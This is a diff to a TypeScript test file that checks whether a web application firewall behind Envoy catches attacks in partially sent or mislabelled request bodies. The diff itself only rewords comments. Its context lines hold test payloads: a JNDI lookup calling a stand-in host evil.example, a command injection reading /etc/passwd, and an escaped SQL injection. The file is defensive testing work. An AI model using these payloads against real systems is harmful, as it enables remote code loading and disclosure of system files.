@@ -1,5 +1,5 @@
-// Through the real Envoy: a client sends an attack and leaves its body open. A service may act on what it has by then, so what it
-// has is asked of it.
+// Through the real Envoy: a client sends an attack and leaves its body open. A service may act on what it has received by then, so what it
+// has received is checked.
 
 import { gzipSync } from 'node:zlib';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
@@ -18,7 +18,7 @@ const attacks: Readonly<Record<string, string>> = {
   lookup: '\x24{jndi:ldap://evil.example/a}',
   command: ';cat /etc/passwd',
 };
-/** The same with a quote that only a reader of JSON sees. */
+/** The same with a quote that only a JSON parser sees. */
 const escaped = JSON.stringify({ q: sql }).replace("'", '\\u0027');
 const part = (text: string, more = ''): string =>
   `--b\r\nContent-Disposition: form-data; name="q"${more}\r\n\r\n${text}`;
@@ -117,7 +117,7 @@ async function leaveAllOpen(
   expect(results.filter(({ there, isStopped }) => there > 0 || !isStopped)).toStrictEqual([]);
 }
 
-/** Held for as long as what is interactive, so that a test need not wait for the usual time. */
+/** Held as briefly as interactive exchanges, so that a test need not wait for the usual time. */
 const shortHold = ['--hold-time', '100'];
 
 for (const mode of ['streamed', 'streamed-wait', 'full-duplex', 'buffered', 'buffered-partial'] as const) {
@@ -145,7 +145,7 @@ for (const mode of ['streamed', 'streamed-wait', 'full-duplex'] as const) {
     });
     afterAll(() => front.stop());
 
-    /** Kinds of bodies that say what they are not, or nothing: then a rule says so, by how much of a body there is (920640). */
+    /** Kinds of bodies with a wrong type, or none: a rule then matches, depending on how much of the body there is (920640). */
     const kinds: Readonly<Record<string, (text: string) => Case>> = {
       'JSON called a form': (text) => one(form, JSON.stringify({ q: text })),
       'XML called a form': (text) => one(form, `<a>${text.replaceAll('<', '&lt;')}</a>`),
